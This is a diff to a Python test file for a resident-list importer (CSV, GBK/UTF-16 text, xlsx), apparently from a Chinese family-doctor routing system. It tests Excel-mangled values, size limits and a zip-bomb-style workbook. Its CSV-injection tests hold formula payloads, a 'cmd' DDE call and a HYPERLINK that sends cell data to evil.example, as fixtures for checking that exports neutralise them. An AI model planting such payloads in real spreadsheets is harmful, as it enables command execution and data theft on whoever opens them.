@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import codecs
+import re
+import zipfile
 from datetime import date, datetime
 from pathlib import Path
+from typing import Any
 from zoneinfo import ZoneInfo
 
 import asyncpg
@@ -13,6 +17,7 @@ from routing.directory import Directory
 from routing.importer import ImportRejected, import_csv
 from routing.numbers import id_check_char
 from routing.records import STAFF_MOBILE
+from routing.sheets import SheetFile, parse_size
 from store.pii import PiiVault, mask_id_number
 from tests.conftest import run_cli
 from tests.district import District, build_district, id_number, table_counts
@@ -218,6 +223,28 @@ REFUSED = {
                               [(2, f"ID number {mask_id_number(FEBRUARY_30)}: has an impossible birth date")]),
     "ID number as Excel number": ("residents", f"{RESIDENTS_HEADER}\n{resident('1.20116E+17')}",
                                   [(2, "Excel turned it into a number")]),
+    "phone as Excel number": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '1.38E+10')}",
+                              [(2, "phone number ******10: Excel turned it into a number; format the column as text")]),
+    "staff mobile as Excel number": ("staff", f"{STAFF_HEADER}\nS001,甲,nurse,测试区,,,,1.39123E+10",
+                                     [(2, "Excel turned it into a number")]),
+    "landline without its 0": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '13830000001;2225321001')}",
+                               [(2, "landline ********01 lost its leading 0: Excel turned it into a number")]),
+    "foreign phone": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '+1 415 555 0123')}",
+                      [(2, "is not a mainland China number (+86)")]),
+    "value too long": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n{resident(MOTHER, center='街' * 1025)}",
+                       [(3, "the value in column 4 has 1,025 characters; a value may have at most 1,024")]),
+    "header value too long": ("residents", f"{RESIDENTS_HEADER},{'x' * 2000}\n{GOOD}",
+                              [(1, "the value in column 9 has 2,000 characters")]),
+    "row too long": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n{'x' * 70_000}\n{resident(MOTHER)}",
+                     [(3, "a row longer than 65,536 characters")]),
+    "quoted value across lines": ("residents", f'{RESIDENTS_HEADER}\n{GOOD}\n某人,"' + "很长\n" * 30_000 + '",,,',
+                                  [(3, "a row longer than 65,536 characters")]),
+    "xls workbook": ("residents", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
+                     [(None, "an .xls workbook (Excel 97–2003)")]),
+    "neither UTF-8 nor GB18030": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n".encode("gb18030") + b"\xff\xff,\x80\n",
+                                  [(3, "the file is neither UTF-8 nor GB18030 (GBK) nor UTF-16 text")]),
+    "broken xlsx": ("residents", b"PK\x03\x04" + bytes(100),
+                    [(None, "not readable as an .xlsx workbook")]),
     "unknown doctor": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='D999', dates='2026-01-01,2026-12-31')}",
                        [(2, "unknown doctor 'D999'")]),
     "not a family doctor": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='A001', dates='2026-01-01,2026-12-31')}",
@@ -288,7 +315,13 @@ async def test_refused_files_change_nothing(
     district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path,
     kind: str, text: str | None, expected: list[tuple[int | None, str]],
 ) -> None:
-    path = tmp_path / "missing.csv" if text is None else write_csv(tmp_path, text)
+    if text is None:
+        path = tmp_path / "missing.csv"
+    elif isinstance(text, bytes):
+        path = tmp_path / "list.csv"
+        path.write_bytes(text)
+    else:
+        path = write_csv(tmp_path, text)
     before = await table_counts(pool)
     with pytest.raises(ImportRejected) as rejected:
         await import_file(pool, vault, kind, path)
@@ -304,16 +337,214 @@ def assert_problems(problems: list[str], expected: list[tuple[int | None, str]])
         assert fragment in problem, problems
 
 
-async def test_a_file_that_is_not_utf8(district: District, pool: asyncpg.Pool, vault: PiiVault,
-                                       tmp_path: Path) -> None:
-    # what "CSV (逗号分隔)" of a Chinese Excel writes: GBK
-    path = tmp_path / "gbk.csv"
-    path.write_bytes(f"{RESIDENTS_HEADER}\r\n{GOOD}\r\n".encode("gbk"))
+# --- what Excel saves, as it saves it ---------------------------------------------------------
+
+# GB18030 has characters GBK lacks (CJK extension A, 䶮); a name with one proves the superset.
+EXCEL_ROWS = [
+    ["姓名", "身份证号", "联系电话", "社区卫生服务中心", "家庭医生工号", "签约开始", "签约结束", "慢病"],
+    ["王䶮", OLD_MAN, "138-3000-0001；022-2532-1001", "测试街", "D001", "2026/1/5", "2026-12-31", "高血压;糖尿病"],
+    ["李建国", MOTHER, "+86 138 3000 0002", "测试街", "", "", "", ""],
+]
+
+
+def excel_text(rows: list[list[str]], sep: str) -> str:
+    return "".join(sep.join(r) + "\r\n" for r in rows)
+
+
+def write_xlsx(path: Path, rows: list[list[Any]], *, number_cells: bool = False) -> Path:
+    """A workbook as Excel saves it, through openpyxl (which Excel's own files also go through)."""
+    import openpyxl
+
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.title = "签约居民"
+    for row in rows:
+        sheet.append(row)
+    workbook.create_sheet("说明").append(["only the first sheet is read"])
+    workbook.save(path)
+    return path
+
+
+async def assert_excel_rows_imported(pool: asyncpg.Pool, vault: PiiVault) -> None:
+    directory = Directory(pool, vault)
+    wang = await directory.find_caller("13830000001")
+    assert wang is not None and wang.name == "王䶮"
+    assert (await directory.find_caller("02225321001")).resident_id == wang.resident_id
+    (contract,) = wang.contracts
+    assert (contract.starts_on, contract.ends_on) == (date(2026, 1, 5), date(2026, 12, 31))
+    li = await directory.find_caller("8613830000002")
+    assert li is not None and li.name == "李建国"
+    conditions = await pool.fetchval("SELECT array_agg(condition ORDER BY condition) FROM resident_conditions"
+                                     " WHERE resident_id = $1", wang.resident_id)
+    assert conditions == ["糖尿病", "高血压"]
+
+
+@pytest.mark.parametrize("form", ["gb18030 csv", "gbk csv", "utf-16 tab", "utf-16-be tab", "utf-8 tab", "xlsx"])
+async def test_what_chinese_excel_saves_imports(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path, form: str
+) -> None:
+    rows = EXCEL_ROWS
+    path = tmp_path / "list.csv"
+    if form == "gb18030 csv":  # "CSV (逗号分隔)" of a Chinese Excel
+        path.write_bytes(excel_text(rows, ",").encode("gb18030"))
+    elif form == "gbk csv":  # the same from an older Excel: GBK, which has no 䶮
+        rows = [[c.replace("䶮", "淑珍") for c in r] for r in rows]
+        path.write_bytes(excel_text(rows, ",").encode("gbk"))
+    elif form == "utf-16 tab":  # "Unicode 文本": UTF-16 LE with BOM, tab-separated
+        path = tmp_path / "list.txt"
+        path.write_bytes(excel_text(rows, "\t").encode("utf-16"))
+    elif form == "utf-16-be tab":
+        path.write_bytes(codecs.BOM_UTF16_BE + excel_text(rows, "\t").encode("utf-16-be"))
+    elif form == "utf-8 tab":
+        path.write_bytes(excel_text(rows, "\t").encode())
+    else:
+        path = write_xlsx(tmp_path / "list.xlsx", rows)
+    assert await import_file(pool, vault, "residents", path) == 2
+    if form == "gbk csv":
+        assert (await Directory(pool, vault).find_caller("13830000001")).name == "王淑珍"
+    else:
+        await assert_excel_rows_imported(pool, vault)
+
+
+async def test_an_xlsx_with_numbers_and_dates_in_cells(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    # cells as Excel types them when nobody formats the column as text: numbers and dates
+    path = write_xlsx(tmp_path / "typed.xlsx", [
+        ["name", "id_number", "phones", "center", "doctor", "contract_start", "contract_end"],
+        ["甲", OLD_MAN, 13830000001, "测试街", "D001", datetime(2026, 1, 5), date(2026, 12, 31)],
+        [],  # an empty row, skipped
+        ["乙", MOTHER, "13830000002", "测试街", None, None, None],
+    ])
+    assert await import_file(pool, vault, "residents", path) == 2
+    caller = await Directory(pool, vault).find_caller("13830000001")
+    assert caller.name == "甲" and caller.contracts[0].starts_on == date(2026, 1, 5)
+
+
+async def test_an_xlsx_with_problems_names_its_rows(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    path = write_xlsx(tmp_path / "bad.xlsx", [
+        ["name", "id_number", "phones", "center"],
+        ["甲", OLD_MAN, "13830000001", "测试街"],
+        [],
+        ["乙", float(int(MOTHER[:17])) * 10, 13830000002, "测试街"],  # the ID as Excel's number
+        ["丙", CHILD, 1383000000.0, "测试街"],  # a phone as a number, a digit short
+        ["丁", GRANDCHILD, 2225321001, "测试街"],  # a landline as a number: its 0 is gone
+        ["戊", valid_id("19600101", "013"), "13830000005", "测试街", "a note without a header"],
+    ])
+    before = await table_counts(pool)
     with pytest.raises(ImportRejected) as rejected:
         await import_file(pool, vault, "residents", path)
+    assert_problems(rejected.value.problems, [
+        (4, "Excel turned it into a number; format the column as text"),
+        (5, "mobile number '********00' must have 11 digits"),
+        (6, "lost its leading 0: Excel turned it into a number"),
+        (7, "5 values but the header has 4 columns: a value right of the last column with a header"),
+    ])
+    assert await table_counts(pool) == before
+
+
+# --- files of any size ----------------------------------------------------------------------------
+
+async def test_a_file_over_the_size_limit_is_refused_unread(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    big = write_csv(tmp_path, "\n".join([RESIDENTS_HEADER, GOOD] + [resident(OLD_MAN, "13830000001")] * 40_000))
+    size = big.stat().st_size
+    assert size > 2 * 1024 * 1024
+    before = await table_counts(pool)
+    with pytest.raises(ImportRejected) as rejected:
+        await import_csv(pool, vault, "residents", big, tz=SH, max_size=1024 * 1024)
     (problem,) = rejected.value.problems
-    assert problem.startswith("line 2: the file is not UTF-8 text")
-    assert "CSV UTF-8" in problem
+    assert re.match(r"the file has 2(\.\d)? MB; the limit is 1 MB \(--max-size\)", problem), problem
+    # the same for a workbook
+    workbook = write_xlsx(tmp_path / "big.xlsx", [["name"]] + [[f"某人{i}"] for i in range(20_000)])
+    with pytest.raises(ImportRejected, match=r"the limit is 100 KB \(--max-size\)"):
+        await import_csv(pool, vault, "residents", workbook, tz=SH, max_size=100 * 1024)
+    assert await table_counts(pool) == before
+
+
+async def test_an_xlsx_that_unpacks_too_far_is_refused(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    # a workbook small as a file whose sheet unpacks to more than the limit: what a zip bomb does
+    workbook = write_xlsx(tmp_path / "bomb.xlsx", [["name"]] + [[f"{i:06d}" + "某" * 900] for i in range(300)])
+    assert workbook.stat().st_size < 64 * 1024
+    with pytest.raises(ImportRejected, match=r"the workbook unpacks to 8\d\d\.\d KB; the limit is 640 KB "
+                                             r"\(10 × --max-size\)"):
+        await import_csv(pool, vault, "residents", workbook, tz=SH, max_size=64 * 1024)
+
+    # Excel keeps a sheet's text in sharedStrings.xml, which openpyxl holds in memory whole
+    # (openpyxl itself writes inline strings, so the part is added here as Excel would have it)
+    with_strings = tmp_path / "strings.xlsx"
+    with zipfile.ZipFile(write_xlsx(tmp_path / "small.xlsx", [["name"], ["某人"]])) as source, \
+            zipfile.ZipFile(with_strings, "w", zipfile.ZIP_DEFLATED) as target:
+        for part in source.infolist():
+            target.writestr(part, source.read(part))
+        target.writestr("xl/sharedStrings.xml", "<sst>" + "<si><t>某人</t></si>" * 5_000 + "</sst>")
+    assert with_strings.stat().st_size < 64 * 1024
+    with pytest.raises(ImportRejected, match=r"the workbook's text \(sharedStrings.xml\) unpacks to 10\d\.\d KB; "
+                                             r"the limit is 64 KB \(--max-size\)"):
+        await import_csv(pool, vault, "residents", with_strings, tz=SH, max_size=64 * 1024)
+
+
+async def test_too_many_problems_are_cut_short(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    path = write_csv(tmp_path, "\n".join([RESIDENTS_HEADER] + [resident(OLD_MAN, "1381234")] * 1_200))
+    with pytest.raises(ImportRejected) as rejected:
+        await import_file(pool, vault, "residents", path)
+    problems = rejected.value.problems
+    assert len(problems) == 1001
+    assert problems[-1] == "… and 200 more problem(s) not shown: fix these and import again"
+
+
+def test_a_file_changed_while_imported_is_noticed(tmp_path: Path) -> None:
+    path = write_csv(tmp_path, f"{RESIDENTS_HEADER}\n{GOOD}")
+    with SheetFile(path) as sheet:
+        assert [line for line, _ in sheet.records()] == [1, 2]
+        assert sheet.unchanged()
+        with path.open("r+b") as f:  # in place, as an editor saving over it does
+            f.seek(-1, 2)
+            f.write(b"X")
+        assert not sheet.unchanged()
+
+
+@pytest.mark.parametrize(("text", "size"), [("50MB", 50 * 1024**2), ("200M", 200 * 1024**2), ("1G", 1024**3),
+                                            ("1.5 GiB", int(1.5 * 1024**3)), ("800k", 800 * 1024), ("1000", 1000)])
+def test_sizes(text: str, size: int) -> None:
+    assert parse_size(text) == size
+
+
+async def test_size_limits_through_the_cli(district: District, cli_env: dict[str, str], tmp_path: Path) -> None:
+    # the default limit, 50 MB, on a sparse file: refused from its size alone, nothing read
+    huge = tmp_path / "huge.csv"
+    with huge.open("wb") as f:
+        f.write(f"{RESIDENTS_HEADER}\n".encode())
+        f.truncate(51 * 1024 * 1024)
+    result = run_cli(cli_env, "import", "residents", str(huge))
+    assert result.returncode == 2, result.stderr
+    assert "the file has 51 MB; the limit is 50 MB (--max-size)" in result.stderr
+
+    small = write_csv(tmp_path, name="small.csv", text=f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '13830000001')}")
+    result = run_cli(cli_env, "import", "residents", str(small), "--max-size", "100")
+    assert result.returncode == 2 and "the limit is 100 bytes (--max-size)" in result.stderr
+    result = run_cli(cli_env, "import", "residents", str(small), "--max-size", "lots")
+    assert result.returncode == 2 and "--max-size: cannot read 'lots' as a size" in result.stderr
+    result = run_cli(cli_env, "import", "residents", str(small), "--max-size", "1MB")
+    assert result.returncode == 0, result.stderr
+
+    # one huge value (5 MB on one line) in a file under the limit: refused at the row, read no further
+    one_field = tmp_path / "one_field.csv"
+    with one_field.open("w", encoding="utf-8") as f:
+        f.write(f"{RESIDENTS_HEADER}\n某人,")
+        f.write("9" * 5 * 1024 * 1024)
+        f.write(",13830000009,测试街,,,,\n")
+    result = run_cli(cli_env, "import", "residents", str(one_field))
+    assert result.returncode == 2, result.stderr
+    assert "line 2: a row longer than 65,536 characters (a value may have at most 1,024)" in result.stderr
+    assert "Traceback" not in result.stderr
 
 
 async def test_every_problem_of_the_file_is_reported_at_once(
@@ -386,3 +617,67 @@ async def test_import_through_the_cli(district: District, cli_env: dict[str, str
     assert '"event": "import.done"' in result.stderr and '"rows": 2' in result.stderr
     for secret in (OLD_MAN, MOTHER, "13830000001", "13830000002"):
         assert secret not in result.stdout + result.stderr
+
+
+# --- formulas in cells (CSV injection, issue 9 reproduction 13) ---------------------------------
+
+# What an attacker types into a sheet a district will import, and later export and open in Excel.
+# (Names are taken whole; conditions are split at ; , / and the like, so those hold short ones.)
+INJECTED = [
+    ("=cmd|' /C calc'!A0", ["+1+1", "-2+3"]),
+    ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', ["@SUM(1+1)*cmd|' -C calc'!A0"]),
+]
+
+
+async def test_formulas_are_stored_as_text_and_neutralized_on_the_way_out(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    import csv
+    import io
+
+    import openpyxl
+
+    from store.spreadsheet import csv_writer, safe_cell
+
+    def quoted(text: str) -> str:
+        return '"' + text.replace('"', '""') + '"'
+
+    path = write_csv(tmp_path, text="name,id_number,phones,center,conditions\n" + "".join(
+        f"{quoted(name)},{number},+86138300000{i:02d},测试街,{quoted(';'.join(conditions))}\n"
+        for i, ((name, conditions), number) in enumerate(zip(INJECTED, [OLD_MAN, MOTHER], strict=True))))
+    assert await import_file(pool, vault, "residents", path) == 2
+    directory = Directory(pool, vault)
+    for i, (name, conditions) in enumerate(INJECTED):
+        # stored unchanged, as text; the +86 phone is a phone, normalized, not a formula
+        (view,) = await directory.show_residents(f"138300000{i:02d}", actor="test", reason="export",
+                                                 on=date(2026, 11, 23))
+        assert view.name == name and sorted(view.conditions) == sorted(conditions)
+
+        # on the way out to a spreadsheet each is text again: a leading apostrophe
+        row = [view.name, *view.conditions, *view.phones, -5, 3.5, None]
+        out = io.StringIO(newline="")
+        csv_writer(out).writerow(row)
+        (written,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+        texts = len(conditions) + 1
+        assert written[:texts] == ["'" + v for v in [view.name, *view.conditions]]
+        assert written[texts:] == [f"138300000{i:02d}", "-5", "3.5", ""]  # numbers stay numbers
+
+        # the same function for a workbook: openpyxl makes every "=…" string a formula otherwise
+        workbook = openpyxl.Workbook()
+        workbook.active.append([safe_cell(v) for v in row])
+        workbook.save(tmp_path / "export.xlsx")
+        cells = next(openpyxl.load_workbook(tmp_path / "export.xlsx").active.iter_rows())
+        assert all(c.data_type != "f" for c in cells)
+        assert cells[0].value == "'" + name
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("+8613800000001", "'+8613800000001"),
+    ("张桂兰", "张桂兰"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, "-5"), (2.5, "2.5"), (True, "TRUE"),
+    (date(2026, 1, 5), "2026-01-05"),
+])
+def test_safe_cell(value: Any, cell: str) -> None:
+    from store.spreadsheet import safe_cell
+
+    assert safe_cell(value) == cell
